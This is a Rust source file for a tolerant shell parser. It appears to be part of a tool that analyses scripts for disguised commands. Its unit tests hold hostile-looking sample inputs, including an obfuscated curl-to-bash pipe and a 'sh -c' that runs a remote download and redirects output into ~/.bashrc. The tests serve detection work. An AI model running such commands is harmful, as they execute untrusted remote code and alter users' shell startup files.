//! A tolerant shell parser: pipelines of commands whose words have quotes, escapes and substitutions resolved.

use super::script::{Command, Pipeline, Word};

/// Substitutions deeper than this are taken as plain text.
pub const DEPTH: usize = 12;
/// What follows in a longer script is not parsed; its file is reported as not fully analysed.
const LONGEST: usize = 512 << 10;

/// Reads a script byte by byte.
pub struct Parser<'a> {
    pub text: &'a str,
    pub bytes: &'a [u8],
    pub at: usize,
    pub depth: usize,
    pub until: Option<u8>,
    pub heredocs: Vec<String>,
}

/// Parses a script. What is no shell gives odd words, never an error.
pub fn parse(text: &str) -> Vec<Pipeline> {
    let end = (0..=text.len().min(LONGEST))
        .rev()
        .find(|index| text.is_char_boundary(*index));
    nested(text, (0, end.unwrap_or(0)), 0)
}

/// Parses a range of a text; places stay places of the whole text.
pub fn nested(text: &str, range: (usize, usize), depth: usize) -> Vec<Pipeline> {
    let text = text.get(..range.1).unwrap_or_default();
    let mut parser = Parser {
        text,
        bytes: text.as_bytes(),
        at: range.0,
        depth,
        until: None,
        heredocs: Vec::new(),
    };
    parser.script()
}

impl Parser<'_> {
    /// The next byte.
    pub fn peek(&self) -> Option<u8> {
        self.bytes.get(self.at).copied()
    }

    /// Whether this comes next.
    pub fn looking_at(&self, what: &str) -> bool {
        self.bytes
            .get(self.at..)
            .is_some_and(|tail| tail.starts_with(what.as_bytes()))
    }

    fn script(&mut self) -> Vec<Pipeline> {
        let mut pipelines = Vec::new();
        let mut current = Pipeline::default();
        while self.peek().is_some() && self.peek() != self.until {
            let (command, joined) = self.command();
            if !command.group.is_empty()
                || !command.words.is_empty()
                || !command.assigns.is_empty()
                || !command.redirects.is_empty()
            {
                current.commands.push(command);
            }
            if !joined && !current.commands.is_empty() {
                pipelines.push(std::mem::take(&mut current));
            }
        }
        if !current.commands.is_empty() {
            pipelines.push(current);
        }
        pipelines
    }

    /// One command, and whether a pipe follows it.
    fn command(&mut self) -> (Command, bool) {
        let mut command = Command {
            start: self.at,
            end: self.at,
            ..Command::default()
        };
        loop {
            self.blanks();
            let Some(byte) = self.peek() else {
                return (command, false);
            };
            if self.until == Some(byte) {
                return (command, false);
            }
            match byte {
                b'\n' => {
                    self.at += 1;
                    self.bodies(&mut command);
                    return (command, false);
                }
                b'(' if command.words.is_empty()
                    && command.group.is_empty()
                    && self.depth < DEPTH =>
                {
                    command.start = self.at;
                    let mut held = Word::default();
                    self.substitution(&mut held);
                    command.group = held.inner;
                }
                b';' | b'{' | b'}' | b'(' | b')' if !(byte == b'{' && self.is_brace_word()) => {
                    self.at += 1;
                    return (command, false);
                }
                b'&' if self.looking_at("&>") => self.redirect(&mut command),
                b'&' => {
                    self.at += if self.looking_at("&&") { 2 } else { 1 };
                    return (command, false);
                }
                b'|' => {
                    let or = self.looking_at("||");
                    self.at += if or || self.looking_at("|&") { 2 } else { 1 };
                    return (command, !or);
                }
                b'#' => self.comment(),
                b'<' | b'>' if !(self.looking_at("<(") || self.looking_at(">(")) => {
                    self.redirect(&mut command);
                }
                _ => self.plain(&mut command),
            }
            command.end = self.at;
        }
    }

    fn is_brace_word(&self) -> bool {
        self.bytes
            .get(self.at + 1)
            .is_some_and(|next| !next.is_ascii_whitespace())
    }

    fn plain(&mut self, command: &mut Command) {
        let before = self.at;
        if command.words.is_empty() && command.assigns.is_empty() {
            command.start = self.at;
        }
        let word = self.word();
        if self.at == before {
            self.at += self
                .text
                .get(self.at..)
                .and_then(|tail| tail.chars().next())
                .map_or(1, char::len_utf8);
            return;
        }
        if word.text.bytes().all(|byte| byte.is_ascii_digit())
            && matches!(self.peek(), Some(b'<' | b'>'))
            && !word.text.is_empty()
        {
            return;
        }
        if command.words.is_empty() {
            if let Some((name, value)) = assignment(&word) {
                command.assigns.push((name, value));
                return;
            }
            let keyword = [
                "if", "then", "else", "elif", "do", "while", "until", "!", "time", "function",
                "fi", "done", "esac", "$", "%", ">",
            ];
            if !word.quoted && keyword.contains(&word.text.as_str()) {
                return;
            }
        }
        if command.words.len() < 4096 {
            command.words.push(word);
        }
    }

    /// Skips blanks.
    pub fn blanks(&mut self) {
        while let Some(byte) = self.peek() {
            if matches!(byte, b' ' | b'\t' | b'\r') {
                self.at += 1;
            } else if self.looking_at("\\\n") {
                self.at += 2;
            } else if self.looking_at("\\\r\n") {
                self.at += 3;
            } else {
                return;
            }
        }
    }

    fn comment(&mut self) {
        while self.peek().is_some_and(|byte| byte != b'\n') {
            self.at += 1;
        }
    }
}

fn assignment(word: &Word) -> Option<(String, Word)> {
    let (name, value) = word.text.split_once('=')?;
    let name = name.strip_suffix('+').unwrap_or(name);
    let proper = !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        && !name.starts_with(|letter: char| letter.is_ascii_digit());
    proper.then(|| {
        (
            name.to_owned(),
            Word {
                text: value.to_owned(),
                ..word.clone()
            },
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<Vec<Vec<String>>> {
        parse(text)
            .iter()
            .map(|line| {
                line.commands
                    .iter()
                    .map(|command| command.words.iter().map(|word| word.text.clone()).collect())
                    .collect()
            })
            .collect()
    }

    #[test]
    fn quotes_and_escapes_are_undone() {
        assert_eq!(
            words("c''url -s \"$URL\" | b\\ash"),
            [[vec!["curl", "-s", "$URL"], vec!["bash"]]]
        );
        let parsed = parse("c''url x");
        assert!(parsed[0].commands[0].words[0].disguised);
        assert!(!parse("echo 'it''s fine'")[0].commands[0].words[1].disguised);
        assert_eq!(words("$'\\x63url' a"), [[vec!["curl", "a"]]]);
    }

    #[test]
    fn substitutions_redirections_and_here_documents_are_read() {
        let parsed = parse(
            "A=1 sh -c \"$(curl -s x.io)\" >> ~/.bashrc 2>&1\ncat <<EOF > f\nbody $TOKEN\nEOF\nls",
        );
        assert_eq!(parsed.len(), 3);
        let first = &parsed[0].commands[0];
        assert_eq!(first.assigns[0].0, "A");
        assert_eq!(first.words[2].inner[0].commands[0].words[0].text, "curl");
        assert_eq!(
            (
                first.redirects[0].0.as_str(),
                first.redirects[0].1.text.as_str()
            ),
            (">>", "~/.bashrc")
        );
        assert_eq!(
            parsed[1].commands[0].fed.as_ref().unwrap().variables,
            ["TOKEN"]
        );
    }

    #[test]
    fn anything_at_all_is_parsed_without_end() {
        for text in [
            "((((", "$(", "'", "\"", "`", "<<", "a <<X", "${", "$'", "\\", "é|ü", ")", "{}",
            "$((1", "<(", "&>",
        ] {
            let _parsed = parse(text);
        }
    }
}
